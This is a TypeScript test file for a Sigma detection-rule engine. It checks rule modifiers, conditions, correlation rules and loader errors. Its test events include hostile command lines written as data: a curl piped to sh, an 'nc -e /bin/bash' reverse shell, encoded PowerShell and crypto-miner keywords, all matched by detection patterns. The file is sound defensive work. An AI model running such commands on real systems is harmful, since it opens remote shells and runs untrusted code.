/**
 * The Sigma subset: rules load as SigmaHQ writes them, field modifiers and conditions mean what the specification
 * says, correlation rules count and sequence, unsupported constructs are coded errors naming the file, line and YAML
 * path while the other rules still load, and the catalog's own Sigma rules fire on the shared sample telemetry.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_CATALOG_DIR } from '../../src/catalog/index.js';
import {
  DetectionEngine,
  FieldRegistry,
  MatchContext,
  listAlerts,
  loadDetectionCatalog,
  loadSigmaText,
  readTelemetry,
  type SecurityEvent,
} from '../../src/protection/index.js';
import { openStore } from '../../src/store/index.js';
import { SHARED_DATA } from '../shared-data.js';
import { AKS, MIN, T0, VM, catalog, event, openEngine, proc, range, tempStore, type TempStore } from './helpers.js';

function rule(detection: string, logsource = 'product: linux\n    category: process_creation'): string {
  return `title: Test rule\nid: 00000000-0000-4000-8000-000000000001\nlogsource:\n    ${logsource}\ndetection:\n${detection}\nlevel: high\n`;
}

function compile(text: string) {
  const registry = new FieldRegistry();
  const result = loadSigmaText('test.yml', text, registry);
  const ctx = new MatchContext(registry);
  return { result, matches: (e: SecurityEvent) => result.rules[0].predicate(ctx.reset(e)) };
}

const cmd = (commandLine: string, extra: Record<string, string | number | string[]> = {}) => proc(VM, T0, commandLine, commandLine.split(' ')[0], extra);

describe('selections and modifiers', () => {
  it('plain values are case-insensitive with * and ? wildcards; \\* is a literal star', () => {
    const { result, matches } = compile(rule(`    sel:\n        Image: '/usr/bin/*sh'\n        CommandLine: 'echo ?i*'\n    lit:\n        User: 'a\\*b'\n    condition: sel or lit`));
    expect(result.errors).toEqual([]);
    expect(matches(cmd('ECHO HI there', { Image: '/usr/bin/BASH' }))).toBe(true);
    expect(matches(cmd('echo hi', { Image: '/usr/bin/python' }))).toBe(false);
    expect(matches(cmd('echo i', { Image: '/usr/bin/sh' }))).toBe(false); // ? needs exactly one character
    expect(matches(cmd('x', { Image: '/x', User: 'a*b' }))).toBe(true);
    expect(matches(cmd('x', { Image: '/x', User: 'axxb' }))).toBe(false);
  });

  it('contains, startswith, endswith, all; lists are any-of; list fields match any element', () => {
    const { matches } = compile(
      rule(`    sel:\n        CommandLine|contains|all:\n            - 'curl'\n            - '| sh'\n        Image|endswith:\n            - '/sh'\n            - '/bash'\n        ParentImage|startswith: '/usr/'\n    condition: sel`),
    );
    expect(matches(cmd('sh -c curl -s http://x | sh', { Image: '/bin/bash', ParentImage: '/usr/sbin/php-fpm' }))).toBe(true);
    expect(matches(cmd('sh -c curl -s http://x', { Image: '/bin/bash', ParentImage: '/usr/sbin/php-fpm' }))).toBe(false);
    const list = compile(rule(`    sel:\n        sourceIPs: '10.0.0.*'\n    condition: sel`, 'product: kubernetes\n    service: audit'));
    expect(list.matches(event('kubernetesAudit', AKS, T0, 'get', { fields: { 'sourceIPs[]': ['192.168.1.1', '10.0.0.7'] } }))).toBe(true);
  });

  it('re (linear time, re2js) with i/m/s, cidr, windash, exists, cased, null and numeric comparisons', () => {
    const { matches, result } = compile(
      rule(
        [
          `    re:\n        CommandLine|re|i: 'NC\\s+-E\\s+/bin/(ba)?sh'`,
          `    cidr:\n        callerIp|cidr: '203.0.113.0/24'`,
          `    windash:\n        CommandLine|windash|contains: ' -enc '`,
          `    exists:\n        ParentImage|exists: false`,
          `    cased:\n        User|cased: 'Root'`,
          `    nulls:\n        CurrentDirectory: null`,
          `    big:\n        ProcessId|gte: 60000`,
          `    condition: 1 of them`,
        ].join('\n'),
      ),
    );
    expect(result.errors).toEqual([]);
    const base = { ParentImage: '/bin/x', CurrentDirectory: '/tmp', ProcessId: 1, User: 'root' };
    expect(matches(cmd('nc -e /bin/bash 1.2.3.4 9', base))).toBe(true);
    expect(matches({ ...cmd('ls', base), callerIp: '203.0.113.77' })).toBe(true);
    expect(matches(cmd('powershell /enc AAAA', base))).toBe(true);
    expect(matches(cmd('powershell \u2013enc AAAA', base))).toBe(true);
    expect(matches(cmd('ls', { ...base, ParentImage: undefined as never }))).toBe(true);
    expect(matches(cmd('ls', { ...base, User: 'Root' }))).toBe(true);
    expect(matches(cmd('ls', { ...base, CurrentDirectory: '' }))).toBe(true);
    expect(matches(cmd('ls', { ...base, ProcessId: 65000 }))).toBe(true);
    expect(matches(cmd('ls', base))).toBe(false);
  });

  it('keyword lists search every value of the event', () => {
    const { matches } = compile(rule(`    keywords:\n        - 'stratum+tcp'\n        - 'xmrig'\n    condition: keywords`));
    expect(matches(cmd('/tmp/k -o STRATUM+TCP://pool:3333'))).toBe(true);
    expect(matches(cmd('ls -la'))).toBe(false);
  });
});

describe('conditions', () => {
  const detection = [
    `    sel_a:\n        CommandLine|contains: 'alpha'`,
    `    sel_b:\n        CommandLine|contains: 'beta'`,
    `    filter_x:\n        CommandLine|contains: 'xray'`,
    `    _helper:\n        CommandLine|contains: 'zulu'`,
  ].join('\n');
  const cases: Array<[string, string, boolean]> = [
    ['sel_a and sel_b', 'alpha beta', true],
    ['sel_a and sel_b', 'alpha', false],
    ['sel_a or sel_b', 'beta', true],
    ['sel_a and not filter_x', 'alpha xray', false],
    ['1 of sel_*', 'beta', true],
    ['all of sel_*', 'alpha', false],
    ['all of sel_*', 'beta alpha', true],
    ['1 of them', 'xray', true],
    ['1 of them', 'zulu', false], // `them` leaves out names starting with _
    ['all of them', 'alpha beta xray', true],
    ['not (sel_a or sel_b) and filter_x', 'xray', true],
    ['not (sel_a or sel_b) and filter_x', 'alpha xray', false],
    ['sel_a or sel_b and filter_x', 'alpha', true], // and binds tighter than or
    ['(sel_a or sel_b) and filter_x', 'alpha', false],
    ['NOT sel_a AND 1 OF sel_*', 'beta', true],
  ];
  for (const [condition, commandLine, expected] of cases) {
    it(`${condition} on '${commandLine}' → ${expected}`, () => {
      const { matches, result } = compile(rule(`${detection}\n    condition: ${condition}`));
      expect(result.errors).toEqual([]);
      expect(matches(cmd(commandLine))).toBe(expected);
    });
  }

  it('a list of conditions is their or', () => {
    const { matches } = compile(rule(`${detection}\n    condition:\n        - sel_a\n        - sel_b`));
    expect(matches(cmd('beta'))).toBe(true);
  });
});

describe('unsupported constructs are coded errors with file, line and path; the other rules still load', () => {
  const file = [
    rule(`    selection:\n        CommandLine|base64offset|contains: 'ZXZpbA=='\n    condition: selection`),
    rule(`    selection:\n        CommandLine|contains: 'fine'\n    condition: selection`).replace('00000000-0000-4000-8000-000000000001', '00000000-0000-4000-8000-000000000002'),
    rule(`    selection:\n        CommandLine|contains: 'x'\n    condition: selection | count() by User > 5`),
    rule(`    selection:\n        EventID: 4688\n    condition: selection`, 'product: windows\n    category: process_creation'),
    rule(`    selection:\n        CommandLine|re: '(unclosed'\n    condition: selection`),
    rule(`    selection:\n        CommandLine|contains: 'x'\n    condition: selection and sel_missing`),
    rule(`    selection:\n        CommandLine|frobnicate: 'x'\n    condition: selection`),
    `title: Sum\nid: 00000000-0000-4000-8000-000000000009\ncorrelation:\n    type: value_sum\n    rules: [x]\n    timespan: 5m\n    condition: {gte: 5}\nlevel: low\n`,
  ].join('---\n');

  it('reports each unsupported rule and loads the good one', () => {
    const registry = new FieldRegistry();
    const { rules, errors } = loadSigmaText('rules/mixed.yml', file, registry);
    expect(rules.map((r) => r.id)).toEqual(['00000000-0000-4000-8000-000000000002']);
    expect(errors.map((e) => e.code)).toEqual([
      'SigmaUnsupportedModifier',
      'SigmaUnsupportedCondition',
      'SigmaUnsupportedLogsource',
      'SigmaInvalidRegex',
      'SigmaUnknownSelection',
      'SigmaUnknownModifier',
      'SigmaUnsupportedCorrelation',
    ]);
    const first = errors[0];
    expect(first.location).toEqual({ file: 'rules/mixed.yml', line: 8, path: '$.detection.selection["CommandLine|base64offset|contains"]' });
    expect(first.message).toBe(
      "rules/mixed.yml:8: $.detection.selection[\"CommandLine|base64offset|contains\"]: the modifier 'base64offset' is not supported (supported: contains, startswith, endswith, all, re, i, m, s, cidr, windash, exists, cased, lt, lte, gt, gte)",
    );
    expect(errors[2].location).toMatchObject({ path: '$.logsource' });
    expect(errors[2].message).toMatch(/document 4\): \$\.logsource: no telemetry for logsource \{product: windows, category: process_creation\}/);
    expect(errors[6].location).toMatchObject({ path: '$.correlation.type' });
  });

  it('a catalog with a broken extra Sigma file loads the rest and reports the error; strict mode refuses it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'palisade-sigma-'));
    writeFileSync(join(dir, 'mixed.yml'), file);
    const c = loadDetectionCatalog(DEFAULT_CATALOG_DIR, { sigmaPaths: [dir] });
    expect(c.errors).toHaveLength(7);
    expect(c.errors[0].location?.file).toBe(join(dir, 'mixed.yml'));
    expect(c.definitions.some((d) => d.alertType === 'Sigma.00000000-0000-4000-8000-000000000002')).toBe(true);
    expect(() => loadDetectionCatalog(DEFAULT_CATALOG_DIR, { sigmaPaths: [dir], strict: true })).toThrow(expect.objectContaining({ code: 'SigmaUnsupportedModifier' }));
  });
});

describe('the catalog Sigma rules', () => {
  it('load without errors, and every one is used by a detection', () => {
    const c = catalog();
    expect(c.errors).toEqual([]);
    expect(c.sigmaRules.length).toBeGreaterThanOrEqual(20);
    expect(c.sigmaCorrelations.length).toBe(2);
    expect(c.definitions.filter((d) => d.auto)).toEqual([]);
  });

  const samples = join(SHARED_DATA, 'telemetry', 'samples');
  it('fire on the shared Linux samples: reverse shell, download and run, miner; nothing for the benign ls', async () => {
    const temp = await tempStore();
    const engine = await openEngine(temp.store);
    const events = await readTelemetry(join(samples, 'linux-process-creation.jsonl'), { resourceId: VM }).toArray();
    expect(events).toHaveLength(4);
    const byLine = events.map((e) => engine.process(e).map((c) => c.alert.properties.alertType));
    expect(byLine).toEqual([['VM_ReverseShell'], ['VM_DownloadAndRunCombo'], ['VM_CryptoCoinMinerExecution'], []]);
    const auditd = await readTelemetry(join(samples, 'linux-auditd-execve.log'), { resourceId: AKS }).toArray();
    expect(auditd.flatMap((e) => engine.process(e).map((c) => c.alert.properties.alertType))).toEqual(['K8S.NODE_ReverseShell']);
    await engine.close();
    await temp.dispose();
  });
});

describe('correlation rules', () => {
  let temp: TempStore;
  beforeEach(async () => {
    temp = await tempStore();
  });
  afterEach(async () => temp.dispose());

  const base = (id: string, name: string, contains: string) =>
    `title: ${name}\nid: ${id}\nname: ${name}\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        CommandLine|contains: '${contains}'\n    condition: sel\nlevel: low\n`;
  const corr = (id: string, body: string) => `title: corr ${id}\nid: ${id}\ncorrelation:\n${body}\nlevel: high\ntags:\n    - attack.discovery\n    - attack.t1082\n`;

  async function run(files: Record<string, string>, events: SecurityEvent[]) {
    const dir = mkdtempSync(join(tmpdir(), 'palisade-corr-'));
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
    const c = loadDetectionCatalog(DEFAULT_CATALOG_DIR, { sigmaPaths: [dir], strict: true });
    const store = await openStore(':memory:');
    const engine = await DetectionEngine.open({ catalog: c, store, plans: () => ({ tier: 'Standard' }) });
    for (const e of events) engine.process(e);
    await engine.close();
    const types = (await listAlerts(store)).map((a) => a.properties.alertType).sort();
    await store.close();
    return types;
  }

  it('event_count with group-by and timespan (the base rule alone raises nothing: generate defaults to false)', async () => {
    const files = {
      'r.yml': [base('10000000-0000-4000-8000-000000000001', 'recon', 'uname -a'), corr('10000000-0000-4000-8000-0000000000c1', '    type: event_count\n    rules: [recon]\n    group-by: [User]\n    timespan: 5m\n    condition:\n        gte: 3')].join('---\n'),
    };
    const ev = (t: number, user: string) => proc(VM, t, 'uname -a', '/usr/bin/uname', { User: user });
    expect(await run(files, [ev(T0, 'a'), ev(T0 + MIN, 'b'), ev(T0 + 2 * MIN, 'a'), ev(T0 + 10 * MIN, 'a')])).toEqual([]);
    expect(await run(files, [ev(T0, 'a'), ev(T0 + MIN, 'a'), ev(T0 + 2 * MIN, 'a')])).toEqual(['Sigma.10000000-0000-4000-8000-0000000000c1']);
  });

  it('value_count counts distinct values', async () => {
    const files = {
      'r.yml': [base('20000000-0000-4000-8000-000000000001', 'probe', 'id '), corr('20000000-0000-4000-8000-0000000000c1', '    type: value_count\n    rules: [probe]\n    timespan: 1h\n    condition:\n        field: User\n        gte: 3')].join('---\n'),
    };
    const ev = (i: number, user: string) => proc(VM, T0 + i * MIN, 'id -a', '/usr/bin/id', { User: user });
    expect(await run(files, [ev(0, 'a'), ev(1, 'a'), ev(2, 'b'), ev(3, 'b')])).toEqual([]);
    expect(await run(files, [ev(0, 'a'), ev(1, 'b'), ev(2, 'c')])).toEqual(['Sigma.20000000-0000-4000-8000-0000000000c1']);
  });

  it('temporal_ordered needs the order; temporal does not; a correlation can build on a correlation', async () => {
    const rules = [base('30000000-0000-4000-8000-000000000001', 'first', 'step-one'), base('30000000-0000-4000-8000-000000000002', 'second', 'step-two')];
    const ordered = { 'r.yml': [...rules, corr('30000000-0000-4000-8000-0000000000c1', '    type: temporal_ordered\n    rules: [first, second]\n    group-by: [Computer]\n    timespan: 10m')].join('---\n') };
    const unordered = { 'r.yml': [...rules, corr('30000000-0000-4000-8000-0000000000c2', '    type: temporal\n    rules: [first, second]\n    group-by: [Computer]\n    timespan: 10m')].join('---\n') };
    const one = (t: number) => proc(VM, t, 'run step-one');
    const two = (t: number) => proc(VM, t, 'run step-two');
    expect(await run(ordered, [two(T0), one(T0 + MIN)])).toEqual([]);
    expect(await run(ordered, [one(T0), two(T0 + MIN)])).toEqual(['Sigma.30000000-0000-4000-8000-0000000000c1']);
    expect(await run(ordered, [one(T0), two(T0 + 11 * MIN)])).toEqual([]);
    expect(await run(unordered, [two(T0), one(T0 + MIN)])).toEqual(['Sigma.30000000-0000-4000-8000-0000000000c2']);
    const chained = {
      'r.yml': [
        ...rules,
        corr('30000000-0000-4000-8000-0000000000c3', '    type: event_count\n    rules: [first]\n    group-by: [Computer]\n    timespan: 10m\n    condition:\n        gte: 3').replace('title: corr', 'name: three_firsts\ntitle: corr'),
        corr('30000000-0000-4000-8000-0000000000c4', '    type: temporal_ordered\n    rules: [three_firsts, second]\n    group-by: [Computer]\n    timespan: 10m'),
      ].join('---\n'),
    };
    expect(await run(chained, [...range(3).map((i) => one(T0 + i * 1000)), two(T0 + MIN)])).toEqual(['Sigma.30000000-0000-4000-8000-0000000000c4']);
  });

  it('an automatic alert of a Sigma rule takes its title, level, tactics and techniques', async () => {
    const files = { 'r.yml': base('40000000-0000-4000-8000-000000000001', 'whoami_run', 'whoami') };
    const dir = mkdtempSync(join(tmpdir(), 'palisade-auto-'));
    writeFileSync(join(dir, 'r.yml'), files['r.yml'].replace('level: low', 'level: critical\ntags:\n    - attack.discovery\n    - attack.t1033'));
    const c = loadDetectionCatalog(DEFAULT_CATALOG_DIR, { sigmaPaths: [dir], strict: true });
    const engine = await DetectionEngine.open({ catalog: c, store: temp.store, plans: () => ({ tier: 'Standard' }) });
    const [change] = engine.process(proc(AKS, T0, 'whoami', '/usr/bin/whoami'));
    await engine.close();
    expect(change.alert.plan).toBe('Containers');
    expect(change.alert.properties).toMatchObject({ alertType: 'Sigma.40000000-0000-4000-8000-000000000001', alertDisplayName: 'whoami_run', severity: 'High', intent: 'Discovery', techniques: ['T1033'] });
  });
});
